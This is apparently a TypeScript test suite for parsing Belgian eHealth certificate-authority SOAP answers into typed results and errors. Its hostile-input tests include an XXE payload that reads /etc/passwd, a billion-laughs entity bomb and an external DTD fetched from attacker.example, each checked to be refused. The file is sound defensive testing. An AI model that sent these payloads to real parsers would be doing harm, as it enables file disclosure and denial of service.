// Reading answers: typed results, typed errors, and hostile or broken XML refused with clear errors.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as certra from '../../../src/ra/certra';
import * as etkra from '../../../src/ra/etkra';
import { getEtk } from '../../../src/ra/etkdepot';
import { isDomainError } from '../../../src/core/domainError';
import { AuthorityError } from '../../../src/ra/errors';
import { errorMessage } from '../../../src/faces/errors';
import { parseAnswer } from '../../../src/ra/operation';
import { languages } from '../../../src/i18n';

const fixture = (name: string) => readFileSync(join(__dirname, '..', '..', 'fixtures', 'ra', `${name}.xml`), 'utf8');
const SUCCESS = '<cc:Status><cc:StatusCode Value="urn:be:fgov:ehealth:2.0:status:Success"/></cc:Status>';

function certificateAnswer(inner: string, prolog = ''): string {
  return `${prolog}<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>` +
    `<ra:GetCertificateResponse xmlns:ra="urn:be:fgov:ehealth:certra:protocol:v2" xmlns:cc="urn:be:fgov:ehealth:commons:core:v2" Id="_a" IssueInstant="2026-01-01T00:00:00Z">` +
    `${inner}</ra:GetCertificateResponse></s:Body></s:Envelope>`;
}

describe('ra answers', () => {
  it('reads a contract, keeping its HTML texts (a DOCTYPE inside CDATA is only text)', () => {
    const contract = parseAnswer(certra.generateContract, fixture('GenerateContractResponse'));
    assert.match(contract.dn, /^CN="SSIN=79021802145"/);
    assert.deepEqual(contract.signer, { ids: [{ type: 'SSIN', value: '79021802145' }], firstNames: ['Jean'], name: 'Dupont' });
    assert.deepEqual(contract.texts.map((text) => text.lang), ['fr', 'nl']);
    assert.match(contract.texts[0].value, /^<!DOCTYPE html><html>.*j'accepte/);
    assert.match(contract.texts[1].value, /^<!DOCTYPE html><html><body><p>Ik vraag/);
  });

  it('reads a revocation contract with its reason', () => {
    const contract = parseAnswer(certra.generateRevocationContract, fixture('GenerateRevocationContractResponse'));
    assert.equal(contract.reason, 'keyCompromise');
    assert.equal(contract.texts.length, 2);
  });

  it('reads certificate infos: statuses, ETK status, revocable, replaceable, replacement period', () => {
    const [person, organization] = parseAnswer(certra.getCertificateInfoForCitizen, fixture('GetCertificateInfoForCitizenResponse'));
    assert.equal(person.status, 'VALID_ACTIVE');
    assert.equal(person.etkStatus, 'VALID_ACTIVE');
    assert.equal(person.publicKeyIdentifier, '0a1b2c3d4e5f60718293a4b5c6d7e8f901234567');
    assert.equal(person.entityType, 'NaturalPerson');
    assert.equal(person.revocable, true);
    assert.equal(person.replaceable, true);
    assert.equal(person.replacementPeriodStartDate?.toISOString(), '2026-05-25T08:57:51.000Z');
    assert.equal(person.details?.notAfter, '2026-08-23T08:57:51.000Z');
    assert.deepEqual(person.baseServiceUsage, ['tsa']);
    assert.equal(organization.status, 'IN_PROGRESS');
    assert.equal(organization.etkStatus, 'NOT_REQUESTED');
    assert.equal(organization.details, undefined);
    assert.equal(organization.certificate.applicationId, 'GATEWAY');
    assert.equal(organization.contactData.emailGeneral, 'b@example.be');
  });

  it('reads the delivered chain leaf first', () => {
    const chain = parseAnswer(certra.getCertificate, certificateAnswer(`${SUCCESS}<ra:X509Certificate>AQID</ra:X509Certificate><ra:X509Certificate>BAUG</ra:X509Certificate>`));
    assert.deepEqual(chain.map((der) => der.toString('hex')), ['010203', '040506']);
  });

  it('turns CERT_NOT_YET_DELIVERED into ra/not-yet-delivered, worded in every language', () => {
    const error = (() => {
      try {
        parseAnswer(certra.getCertificate, fixture('GetCertificateResponse-not-yet-delivered'));
      } catch (caught) {
        return caught;
      }
      assert.fail('no error');
    })();
    assert.ok(error instanceof AuthorityError);
    assert.equal(error.code, 'not-yet-delivered');
    assert.ok(error.has('CERT_NOT_YET_DELIVERED'));
    assert.deepEqual(error.errors[0].parameters, { publicKeyIdentifier: '0a1b2c3d4e5f60718293a4b5c6d7e8f901234567' });
    const messages = languages.map((language) => errorMessage(error, language));
    assert.equal(new Set(messages).size, 4);
  });

  it('reports other refusals as AuthorityError with the authority code', () => {
    const answer = certificateAnswer('<cc:Status><cc:StatusCode Value="urn:be:fgov:ehealth:2.0:status:Requester"/><cc:StatusDetail>' +
      '<etee:EteeStatusDetail xmlns:etee="urn:be:fgov:ehealth:etee:commons:core:v2"><Errors><Code>INVALID_SIGNATURE</Code><Message>The XML signature is invalid</Message></Errors></etee:EteeStatusDetail></cc:StatusDetail></cc:Status>');
    assert.throws(() => parseAnswer(certra.getCertificate, answer), (error: unknown) =>
      error instanceof AuthorityError && error.code === 'authority' && error.has('INVALID_SIGNATURE') && errorMessage(error, 'fr').includes('INVALID_SIGNATURE'));
    assert.throws(() => parseAnswer(certra.getCertificate, certificateAnswer('<cc:Status><cc:StatusCode Value="urn:be:fgov:ehealth:2.0:status:Responder"/></cc:Status>')),
      (error: unknown) => error instanceof AuthorityError && error.status.endsWith('Responder'));
  });

  it('reads the EtkRA challenge and ETK', () => {
    assert.equal(parseAnswer(etkra.startEtkRegistration, fixture('StartETKRegistrationResponse')).challenge.length, 16);
    const registered = parseAnswer(etkra.completeEtkRegistration, fixture('CompleteETKRegistrationResponse'));
    assert.equal(registered.toBeActivated, true);
    assert.equal(registered.etk?.toString('hex'), '30820102030405');
  });

  it('reads an ambiguous EtkDepot answer as its matching identifiers', () => {
    const lookup = parseAnswer(getEtk, fixture('GetEtkResponse-ambiguous'));
    assert.equal(lookup.kind, 'ambiguous');
    assert.deepEqual(lookup.kind === 'ambiguous' && lookup.matches.map((match) => match[0].applicationId), ['GATEWAY', undefined]);
  });

  it('turns a SOAP fault into ra/soap-fault', () => {
    assert.throws(() => parseAnswer(certra.getCertificate, fixture('Fault')), (error: unknown) =>
      isDomainError(error, 'ra', 'soap-fault') && error.params.reason === 'Invalid signature');
  });

  describe('hostile and broken answers', () => {
    const hostile: [string, string][] = [
      ['external entity (XXE)', certificateAnswer('<x>&xxe;</x>', '<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')],
      ['billion laughs', certificateAnswer('<x>&lol3;</x>', '<!DOCTYPE s [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;">]>')],
      ['DOCTYPE after a comment and a processing instruction', certificateAnswer(SUCCESS, '<?xml version="1.0"?><!-- hi --><?pi x?>\n<!DOCTYPE s:Envelope SYSTEM "http://attacker.example/x.dtd">')],
    ];
    for (const [name, answer] of hostile) {
      it(`refuses ${name}`, () => assert.throws(() => parseAnswer(certra.getCertificate, answer), (error: unknown) => isDomainError(error, 'ra', 'hostile')));
    }

    const malformed: [string, string][] = [
      ['not XML', 'Service Unavailable'],
      ['truncated XML', certificateAnswer(SUCCESS).slice(0, 120)],
      ['an undeclared entity', certificateAnswer(`${SUCCESS}<ra:X509Certificate>&xxe;</ra:X509Certificate>`)],
      ['not a SOAP envelope', '<Envelope><Body/></Envelope>'],
      ['the answer element in the wrong namespace', certificateAnswer(SUCCESS).replaceAll('urn:be:fgov:ehealth:certra:protocol:v2', 'urn:evil')],
      ['another operation\'s answer', fixture('StartETKRegistrationResponse')],
      ['a missing certificate', certificateAnswer(SUCCESS)],
      ['a certificate that is not base64', certificateAnswer(`${SUCCESS}<ra:X509Certificate>not base64!</ra:X509Certificate>`)],
      ['a Status without StatusCode', certificateAnswer('<cc:Status/>')],
    ];
    for (const [name, answer] of malformed) {
      it(`reports ${name} as ra/malformed`, () => assert.throws(() => parseAnswer(certra.getCertificate, answer), (error: unknown) => isDomainError(error, 'ra', 'malformed')));
    }

    it('refuses an unknown certificate status', () => {
      const answer = fixture('GetCertificateInfoForCitizenResponse').replace('>VALID_ACTIVE</rac:AuthenticationCertificateStatus>', '>HACKED</rac:AuthenticationCertificateStatus>');
      assert.throws(() => parseAnswer(certra.getCertificateInfoForCitizen, answer), (error: unknown) => isDomainError(error, 'ra', 'malformed'));
    });
  });
});
